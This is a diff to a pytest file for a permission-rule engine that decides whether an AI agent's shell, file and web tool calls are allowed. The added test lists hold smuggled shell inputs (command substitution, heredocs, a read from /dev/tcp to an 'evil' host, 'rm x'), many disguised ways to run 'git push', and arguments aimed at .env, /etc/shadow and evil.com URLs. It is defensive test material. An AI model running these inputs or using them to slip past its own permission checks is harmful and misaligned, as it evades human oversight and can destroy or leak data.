@@ -5,6 +5,7 @@ import json
 import pytest
 
 from refold.reducers.permissions.conditions import ToolCall
+from refold.reducers.permissions.paths import Folders
 from refold.reducers.permissions.rules import Order, PermissionRule, decide
 
 PERMITTED = [
@@ -14,6 +15,16 @@ PERMITTED = [
     )
 ]  # fmt: skip
 SMUGGLED = [
+    'cat <<EOF\n`rm x`\nEOF',
+    "test -v 'a[$(rm x)]'",
+    "[ -v 'a[$(rm x)]' ]",
+    'echo ${x@P}',
+    'echo "${x:-`rm x`}"',
+    'cat < /dev/tcp/evil/80',
+    'git sta\\\ntus; rm x',
+    "bash -euo pipefail -c 'rm x'",
+    'sh /dev/stdin <<E\nrm x\nE',
+    "printf -v 'a[$(rm x)]' x",
     "git status\nrm x", "git status;rm x", "git status&rm x", "git status||rm x", "ls `rm x`", "ls $(rm x)",
     "ls <(rm x)", "echo x>y", "echo x>>~/.bashrc", "cat <<E\n$(rm x)\nE", "cat <<'E' | sh\nrm x\nE",
     "IFS=_;a=rm_x;$a", "ls${IFS}x;rm x", "alias ls=rm; ls x", "ls() { rm x; }; ls",
@@ -34,6 +45,33 @@ SMUGGLED = [
 ]  # fmt: skip
 """Scripts that run more than these rules permit, or may."""
 PUSHES = [
+    'git pu\\\nsh',
+    'git --attr-source HEAD push',
+    'git -c alias.p=push p',
+    'csh -c "git push"',
+    'rbash -c "git push"',
+    'mapfile -C "git push" -c 1',
+    'toybox git push',
+    'gosu me git push',
+    'setarch x86_64 git push',
+    'poetry run git push',
+    'uv run git push',
+    'npx git push',
+    'fd -x git push',
+    'git submodule foreach "git push"',
+    'git bisect run git push',
+    'git rebase -x "git push" main',
+    'tmux new -d "git push"',
+    'screen -dm git push',
+    'hyperfine "git push"',
+    'caffeinate git push',
+    'find . -exec true \\; $X',
+    'bash -euo pipefail -c "git push"',
+    'bash -o pipefail -c "git push"',
+    'bash /dev/stdin <<< "git push"',
+    'echo git push | sh /dev/stdin',
+    'bash -s a <<< "git push"',
+    'compgen -C "git push"',
     "git push", "git  push", "git\tpush", "git \\\npush", "git pu\\sh", "git 'push'", 'git "push"',
     "g''it push", "'git' push", "$'git' push", "git $'push'", "git -C x push", "git --git-dir=x push",
     "git -c a=b push", "git --no-pager push", "git -P push", "/usr/bin/git push", "../git push",
@@ -63,6 +101,10 @@ PUSHES = [
 ]  # fmt: skip
 """Scripts that run `git push`, or may."""
 DATA = [
+    'git commit -m "$(cat <<\'EOF\'\ngit push\n\nIt\'s `git push`\nEOF\n)"',
+    "cat > f.sh <<'EOF'\n#!/bin/bash\ngit push\nEOF",
+    'true # && git push',
+    'echo a \\\n  git push',
     "git stash push", "echo git push", "echo 'git push'", "# git push", "ls git push",
     "cat <<'E'\ngit push\nE", "grep 'git push' x", "git log --grep 'git push'", "git commit -m 'git push'",
 ]  # fmt: skip
@@ -92,3 +134,41 @@ def test_a_text_is_no_command(script: str) -> None:
         rules = [PermissionRule(effect="refuse", tool="Bash", command=command)]
         call = ToolCall("Bash", json.dumps({"command": script}))
         assert "permit" == decide(rules, "strictest", "permit", call).effect
+
+
+@pytest.mark.parametrize(
+    ("rule", "arguments", "expected"),
+    [
+        ({"command": ("git", "push")}, {"command": "ls", "cmd": "git push"}, "refuse"),
+        ({"command": ("git", "push")}, {"command": "", "script": "git push"}, "refuse"),
+        ({"command": ("git", "push")}, {"command": ["bash", "-lc", "git push", 1]}, "refuse"),
+        ({"command": ("git", "push")}, {"command": {"a": "git push"}}, "unknown"),
+        ({"path": (".env",)}, {"file_path": "README", "path": ".env"}, "refuse"),
+        ({"path": (".env",)}, {"file_path": {"x": ".env"}}, "unknown"),
+        ({"path": (".env",)}, {"paths": [[".env"]]}, "unknown"),
+        ({"path": (".env",)}, {"input": "*** Begin Patch\n*** Update File: .env\n@@\n-a\n+b"}, "refuse"),
+        ({"path": (".env",)}, {"patchText": "*** Move to: .env"}, "refuse"),
+        ({"host": ("evil.com",)}, {"url": "http://good.com", "uri": "http://evil.com"}, "refuse"),
+        ({"host": ("evil.com",)}, {"url": {"a": "http://evil.com"}}, "unknown"),
+        ({"host": ("evil.com",)}, {"url": "https:evil.com/x"}, "refuse"),
+        ({"host": ("evil.com",)}, {"url": "http:\\evil.com"}, "refuse"),
+        ({"host": ("evil.com",)}, {"url": "blob:http://evil.com/x"}, "refuse"),
+        ({"host": ("evil.com",)}, {"url": "http://evil%2ecom"}, "unknown"),
+        ({"host": ("evil.com",)}, {"url": "http://good.com/http://evil.com"}, "permit"),
+        ({"host": ("evil.com",)}, {"url": "mailto:a@evil.com"}, "permit"),
+    ],
+)
+def test_arguments_that_hide_a_value(
+    rule: dict[str, tuple[str, ...]], arguments: dict[str, object], expected: str
+) -> None:
+    """All the usual fields are read; a value of another shape is unknown."""
+    rules = [PermissionRule(effect="refuse", **rule)]  # type: ignore[arg-type]
+    assert expected == decide(rules, "strictest", "permit", ToolCall("X", json.dumps(arguments))).effect
+
+
+def test_a_permission_covers_all_paths() -> None:
+    """A second path in another field is not permitted with the first."""
+    rules = [PermissionRule(effect="permit", path=("./**",))]
+    for arguments in ({"file_path": "./a", "path": "/etc/shadow"}, {"path": "./a", "paths": ["/etc"]}):
+        call = ToolCall("X", json.dumps(arguments), Folders("/w", "/h"))
+        assert "ask" == decide(rules, "strictest", "ask", call).effect
